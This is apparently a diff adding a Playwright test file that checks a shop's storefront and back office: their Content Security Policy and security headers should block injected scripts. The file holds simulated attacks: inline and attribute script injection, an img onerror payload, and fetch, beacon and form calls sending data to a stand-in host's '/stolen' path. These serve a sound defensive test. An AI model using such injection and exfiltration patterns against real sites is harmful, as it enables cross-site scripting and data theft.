@@ -1,0 +1,166 @@
+import type { Page } from 'playwright-core';
+import { describe, expect } from 'vitest';
+import { openScreen } from './support/back-office.ts';
+import { publicPages } from './support/public-pages.ts';
+import { backoffice, storefront, test } from './support/test.ts';
+
+declare global {
+  interface Window {
+    /** Set by a planted script that was not stopped. */
+    planted?: boolean;
+    violations: string[];
+  }
+}
+
+const elsewhere = 'https://elsewhere.example';
+
+/** What a script that slipped in would try, and the directive that stops it. */
+const attempts: Record<string, [directive: string, attempt: (elsewhere: string) => void]> = {
+  'an inline script': [
+    'script-src-elem',
+    () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'planted = true' })),
+  ],
+  'a handler in an attribute': [
+    'script-src-attr',
+    () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'planted = true');
+      button.click();
+    },
+  ],
+  'a script from elsewhere': [
+    'script-src-elem',
+    (host) => document.body.append(Object.assign(document.createElement('script'), { src: `${host}/x.js` })),
+  ],
+  'an address that is a script': [
+    'script-src-elem',
+    () => {
+      const link = Object.assign(document.createElement('a'), { href: 'javascript:planted = true' });
+      document.body.append(link);
+      link.click();
+    },
+  ],
+  'code from a text': [
+    'script-src',
+    () => {
+      try {
+        new Function('window.planted = true')();
+      } catch {}
+    },
+  ],
+  'a call to elsewhere': ['connect-src', (host) => void fetch(`${host}/stolen`).catch(() => {})],
+  'a beacon to elsewhere': ['connect-src', (host) => void navigator.sendBeacon(`${host}/stolen`)],
+  'a frame of elsewhere': [
+    'frame-src',
+    (host) => document.body.append(Object.assign(document.createElement('iframe'), { src: host })),
+  ],
+  'a plug-in of elsewhere': [
+    'object-src',
+    (host) => document.body.append(Object.assign(document.createElement('object'), { data: `${host}/x.swf` })),
+  ],
+  'a stylesheet from elsewhere': [
+    'style-src-elem',
+    (host) =>
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${host}/x.css` })),
+  ],
+  'a form sent elsewhere': [
+    'form-action',
+    (host) => {
+      const form = Object.assign(document.createElement('form'), { action: `${host}/stolen`, method: 'post' });
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+  'another base of all addresses': [
+    'base-uri',
+    (host) => document.head.append(Object.assign(document.createElement('base'), { href: host })),
+  ],
+};
+
+const front = {
+  storefront: { open: (page: Page) => page.goto(storefront('/cgv')), address: () => storefront('/cgv') },
+  'back-office': { open: (page: Page) => openScreen(page, '/admin/demandes'), address: () => backoffice('/login') },
+};
+
+describe.each(Object.entries(front))('the %s', (_name, { open, address }) => {
+  test('stops whatever a planted script would try', async ({ page, expectedProblems }) => {
+    expectedProblems.push(/Content Security Policy/, /elsewhere\.example/);
+    const asked: string[] = [];
+    await page.route(`${elsewhere}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    await page.addInitScript(() => {
+      window.violations = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        window.violations.push(effectiveDirective),
+      );
+    });
+    await open(page);
+    for (const [what, [directive, attempt]] of Object.entries(attempts)) {
+      await page.evaluate(() => {
+        window.violations.length = 0;
+      });
+      await page.evaluate(attempt, elsewhere);
+      await expect.poll(() => page.evaluate(() => window.violations), { message: what }).toContain(directive);
+    }
+    expect(await page.evaluate(() => window.planted)).toBeUndefined();
+    expect(asked).toEqual([]);
+  });
+
+  test('stops a script that came with the page', async ({ page, expectedProblems }) => {
+    expectedProblems.push(/Content Security Policy/);
+    await page.route(address(), async (route) => {
+      const response = await route.fetch();
+      const planted = '<script>planted = true</script><img src="data:," onerror="planted = true">';
+      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${planted}</body>`) });
+    });
+    await page.goto(address(), { waitUntil: 'networkidle' });
+    expect(await page.locator('img[onerror]').count()).toBe(1);
+    expect(await page.evaluate(() => window.planted)).toBeUndefined();
+  });
+});
+
+test.for(publicPages)('$path holds no script, handler or style in its text', async ({ path }, { page }) => {
+  const answer = await page.request.get(storefront(path));
+  const html = await answer.text();
+  const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
+  const inline = scripts.filter((attributes) => !/ src="\/|type="application\/(ld\+)?json"/.test(attributes));
+  expect(inline).toEqual([]);
+  expect(html).not.toMatch(/<style|<[^>]+\s(style|on\w+)=/);
+  expect(answer.headers()['content-security-policy']).toMatch(
+    /^default-src 'none';script-src 'self';style-src 'self';.*base-uri 'none';frame-ancestors 'none'$/,
+  );
+});
+
+const always = {
+  'x-content-type-options': 'nosniff',
+  'x-frame-options': 'DENY',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+  'cross-origin-opener-policy': 'same-origin',
+  'cross-origin-resource-policy': 'same-origin',
+  'content-security-policy': expect.stringContaining('default-src'),
+  'permissions-policy': expect.stringContaining('camera=()'),
+};
+
+test.for([
+  ...[
+    '/',
+    '/nulle/part',
+    '/article/nulle-part',
+    '/sitemap.xml',
+    '/robots.txt',
+    '/default-article.jpg',
+    '/assets/none.js',
+  ],
+  ...['/api/articles', '/api/nothing', '/graphql', '/media/x/y.jpg', '/healthz', '/%E0%A4%A'],
+])('%s says on both sites what a browser must not do with it', async (path, { page }) => {
+  for (const address of [storefront(path), backoffice(path)]) {
+    const headers = (await page.request.get(address, { maxRedirects: 0 })).headers();
+    expect(headers, address).toMatchObject(always);
+    const told = Object.keys(headers).filter((name) =>
+      /^(set-cookie|access-control-.*|server|x-powered-by)$/.test(name),
+    );
+    expect(told, address).toEqual([]);
+  }
+});
